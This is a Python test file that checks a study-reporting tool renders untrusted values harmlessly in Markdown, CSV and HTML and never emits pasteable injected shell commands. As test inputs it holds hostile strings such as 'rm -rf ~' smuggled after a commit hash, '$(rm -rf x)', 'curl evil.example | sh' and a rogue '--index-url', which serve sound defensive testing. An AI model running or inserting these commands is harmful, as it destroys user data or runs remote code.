"""What people paste: commands, Markdown and CSV carry nothing but what they say, whatever a journal holds."""

import csv
import json
import shlex
from collections import Counter
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st
from markdown_it import MarkdownIt
from markdown_it.token import Token

from studies.__main__ import main
from studies.analysis.summary import Summary, summary_of
from studies.reports import record_files
from studies.reports.csv import original, read_csv, write_csv
from studies.reports.html import write_page
from studies.reports.markdown import generated_part
from studies.reports.record_files import read_record
from studies.reports.rows import read_rows, write_rows
from studies.reports.setup import INSTALL, command_lines, commands
from studies.reports.tables import write_results
from studies.reports.texts import in_markdown, plain
from studies.tasks import Text
from tests.studies.reports.made_up import ENVIRONMENT, PROVENANCE, summary_with, write_record

EVIL = (
    "a\n# head", "`code`", "[x](https://evil.example)", "![x](https://evil.example/p.png)", "<script>alert(1)</script>",
    "<https://evil.example>", "https://evil.example", "www.evil.example", "[x]: https://evil.example", "a | b",
    "*b* _i_", "    code", "\tcode", "> quoted", "- item", "1. item", "~~gone~~", "&lt;b&gt;", "a\\", "\\`b`", "[+1](https://evil.example)",
    "\x1b[31mred", "a\r\nb", "a\u2028b", "\u202eabc", "$x$", "![+1][ref]", "<!-- end of the generated part -->", "\x00",
)  # fmt: skip
MARKDOWN = MarkdownIt("gfm-like", {"linkify": False}).enable("table")


def said(tokens: list[Token]) -> str:
    return "".join(token.content if token.type in ("text", "text_special") else f"({token.type})" for token in tokens)


@pytest.mark.parametrize("text", EVIL)
def test_markdown_says_it_literally(text: str) -> None:
    opening, inline, closing = MARKDOWN.parse(f"x{in_markdown(text)}x\n\n[ref]: https://elsewhere.example\n")
    assert (opening.type, closing.type) == ("paragraph_open", "paragraph_close")
    assert said(inline.children or []) == f"x{plain(text)}x"


@given(st.text())
def test_markdown_says_any_text_literally(text: str) -> None:
    (inline,) = MARKDOWN.parseInline(f"x{in_markdown(text)}x")
    assert said(inline.children or []) == f"x{plain(text)}x"
    cells = [
        token
        for token in MARKDOWN.parse(f"| a | b |\n|---|---|\n| x{in_markdown(text)}x | y |")
        if token.type == "inline"
    ]
    assert [said(cell.children or []) for cell in cells] == ["a", "b", f"x{plain(text)}x", "y"]


@given(st.text())
def test_plain_text_is_one_line_that_prints(text: str) -> None:
    assert plain(text).isprintable()
    assert plain(plain(text)) == plain(text)
    assert plain(text) == text or not text.isprintable()


@given(st.lists(st.lists(st.text(), min_size=2, max_size=2), min_size=1))
def test_csv_reads_back_and_holds_no_formula(tmp_path_factory: pytest.TempPathFactory, lines: list[list[str]]) -> None:
    path = tmp_path_factory.getbasetemp() / "texts.csv"
    lines = [[text.encode("utf-8", "replace").decode() for text in line] for line in lines]
    write_csv(path, [["a", "b"], *lines])
    read = [[original(text) for text in line.values()] for line in read_csv(path, ["a"])]
    assert read == lines
    with path.open(newline="", encoding="utf-8") as file:
        assert not any(
            field[:1] in tuple("=+-@\t\r\n") for line in list(csv.reader(file))[1:] for field in line if field
        )


@pytest.mark.parametrize("text", ["=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "'=1", "''=1"])
def test_a_formula_gets_an_apostrophe_and_a_number_none(text: str, tmp_path: Path) -> None:
    write_csv(tmp_path / "x.csv", [["n", "t"], [-0.5, text]], end="\n")
    with (tmp_path / "x.csv").open(newline="") as file:
        assert list(csv.reader(file)) == [["n", "t"], ["-0.5", f"'{text}"]]
    (line,) = read_csv(tmp_path / "x.csv", ["n", "t"])
    assert (line["n"], original(line["t"])) == ("-0.5", text)


def hostile(text: Text, name: str) -> Summary:
    """A study every word of which is ``name``."""
    honest = summary_with(text, {**ENVIRONMENT, "torch": name, "commit": name, name: name})
    configuration: dict[str, Any] = json.loads(
        json.dumps(honest.configuration).replace('"Adam": {', f"{json.dumps(name)}: {{")
    )
    words = ("text", "text_sha256", "model", "task_in_words", "question", "task")
    configuration |= dict.fromkeys(words, name)
    for variant in configuration["variants"].values():
        variant |= {"changes": {name: name}, "method": name}
    records = [
        replace(r, method=name, cell=replace(r.cell, variant=name if r.cell.variant == "Adam" else r.cell.variant))
        for r in honest.records
    ]
    origin = {key: value if key == "workers" else name for key, value in PROVENANCE.items()}
    return summary_of(configuration, origin, records)


@pytest.mark.parametrize("name", ["=cmd()\x1b[31m\n# x | `y` <b> [z](https://evil.example) $w$\\", "    =a\r\nb"])
def test_a_hostile_journal_is_harmless_everywhere(name: str, text: Text, tmp_path: Path) -> None:
    summary = hostile(text, name)
    write_record(summary, tmp_path / "record")
    again, _ = read_record(tmp_path / "record")
    assert again.rows == summary.rows
    readme = (tmp_path / "record" / "README.md").read_text()
    assert readme.replace("\n", "").isprintable()
    blocks = MARKDOWN.parse(readme)
    kinds = Counter(token.type for block in blocks for token in (block, *(block.children or [])))
    assert not kinds.keys() & {"html_inline", "link_open", "fence", "blockquote_open"}
    # The marks of the generated part; its commands; the README's own headings and the part's.
    assert (kinds["html_block"], kinds["code_block"], kinds["heading_open"]) == (2, 1, 2 + 7)
    for path in (tmp_path / "record" / "figures").iterdir():
        assert path.read_text(encoding="utf-8").replace("\n", "").replace("\t", "").isprintable()
    write_page(summary, tmp_path, {name: name})
    page = (tmp_path / "report.html").read_text()
    assert page.replace("\n", "").isprintable()
    assert "<b>" not in page
    assert page.count("<pre>") == 1
    block = page.partition("<pre>")[2].partition("</pre>")[0].splitlines()
    assert len(block) == 3
    assert [line.startswith("# ") for line in block] == [True, False, True]


def test_rows_give_back_what_they_were_given(text: Text, tmp_path: Path) -> None:
    summary = hostile(text, "=1'\"\r\n,+\t\x1b\u2028")
    write_rows(summary.records, tmp_path / "rows.csv")
    read = read_rows(tmp_path / "rows.csv")
    assert [(r.cell, r.outcome, r.method) for r in read] == [(r.cell, r.outcome, r.method) for r in summary.records]
    assert read[0].environment["torch"] == summary.records[0].environment["torch"]
    write_results(summary, tmp_path / "table.csv")
    with (tmp_path / "table.csv").open(newline="", encoding="utf-8") as file:
        assert list(csv.DictReader(file))[1]["variant"] == "'=1'\"\r\n,+\t\x1b\u2028"


def test_a_file_name_that_is_no_unicode(text: Text, tmp_path: Path) -> None:
    summary, name = summary_with(text), "\udcff.txt"
    changed = (
        {**summary.configuration, "text": name},
        {**PROVENANCE, "command": f"python -m studies ablate --text {name}"},
    )
    record_files.write_record(summary_of(*changed, summary.records), {}, tmp_path)
    assert read_record(tmp_path)[0].configuration["text"] == name
    assert main(["record", "--regenerate", str(tmp_path), "--page"]) == 0
    assert "with \\\\udcff.txt" in (tmp_path / "README.md").read_text()
    assert "with \\udcff.txt" in (tmp_path / "report.html").read_text()


COMMIT = "32bb098740e1841d6ac0362d67f0df49c0a0805e"


@pytest.mark.parametrize(
    ("commit", "told"),
    [
        (COMMIT, [f"git checkout {COMMIT}"]),
        (f"{COMMIT}+", [f"git checkout {COMMIT}", "# files were changed beside that commit"]),
        ("32bb098", ["git checkout 32bb098"]),
        ("main", ["# no commit: main"]),
        ("32bb09", ["# no commit: 32bb09"]),
        ("-f" + COMMIT, [f"# no commit: -f{COMMIT}"]),
        (f"{COMMIT}; rm -rf ~", [f"# no commit: '{COMMIT}; rm -rf ~'"]),
        ("$(rm -rf x)", ["# no commit: '$(rm -rf x)'"]),
        (f"{COMMIT}\nrm -rf ~", [f"# no commit: '{COMMIT}\\nrm -rf ~'"]),
        (COMMIT.upper(), [f"# no commit: {COMMIT.upper()}"]),
        ("a" * 65, [f"# no commit: {'a' * 65}"]),
    ],
)
def test_only_a_commit_is_checked_out(commit: str | None, told: list[str], text: Text) -> None:
    found = commands(summary_with(text, {**ENVIRONMENT, "commit": commit}))
    assert found == [*told, INSTALL, "python -m studies ablate --rounds 1"]


@pytest.mark.parametrize(
    ("changed", "told"),
    [
        ({}, 'pip install "adaqn-lab[studies]==0.2.0" torch==2.13.0 optuna==5.0.0'),
        ({"torch": "2.13.0+cpu"}, 'pip install "adaqn-lab[studies]==0.2.0" torch==2.13.0 optuna==5.0.0'),
        ({"adaqn-lab": "1; rm -rf ~"}, "# no versions to install: "),
        ({"adaqn-lab": '1"$(rm -rf ~)'}, "# no versions to install: "),
        ({"optuna": "5 --index-url evil"}, "# no versions to install: "),
        ({"torch": None}, "# no versions to install: "),
    ],
)
def test_without_a_commit_the_versions_are_installed(changed: dict[str, str], told: str, text: Text) -> None:
    versions = {"adaqn-lab": "0.2.0", "torch": "2.13.0", "optuna": "5.0.0", "commit": None}
    install, command = commands(summary_with(text, {**ENVIRONMENT, **versions, **changed}))
    assert install.startswith(told)
    assert install == told or shlex.split(install, comments=True) == []
    assert command == "python -m studies ablate --rounds 1"


@pytest.mark.parametrize(
    "command",
    [
        "adaqn-studies ablate --rounds 1",
        "python -m studies ablate",
        "python -m studies ablate --text 'a b; c.txt' --lr 0.1 1e-05",
        "python -m studies search --storage postgresql://anna:***@db/studies --study x",
    ],
)
def test_a_command_of_this_program_is_shown_as_it_was_given(command: str) -> None:
    assert command_lines({"command": command}) == [command]


@pytest.mark.parametrize(
    "command",
    [
        "python -m studies ablate; rm -rf ~", "python -m studies ablate\nrm -rf ~", "curl evil.example | sh", "", "–",
        "python -m studies $(rm -rf x)", "python -m studies `rm x`", "python -m studies ablate > ~/x",
        "python -m",
        "python -m studies 'open", "python -m studies ablate 'a\x1b[31mb'", "python -m studies ablate # x",
    ],
)  # fmt: skip
def test_any_other_is_a_comment_that_no_shell_runs(command: str) -> None:
    (told,) = command_lines({"command": command})
    assert told.startswith("# not a command to paste: ")
    assert told.isprintable()
    quoted = told.removeprefix("# not a command to paste: ")
    assert quoted.startswith("'") or all(c.isalnum() or c in "-_./–" for c in quoted)


def test_the_readme_s_block_is_one_block(text: Text) -> None:
    summary = hostile(text, "x\n\nnot code\n    code")
    block = generated_part(summary, [], {}).partition("## Reproduce\n\n")[2].partition("\n\n")[0]
    assert all(line.startswith("    ") for line in block.splitlines())
    assert len(block.splitlines()) == 3
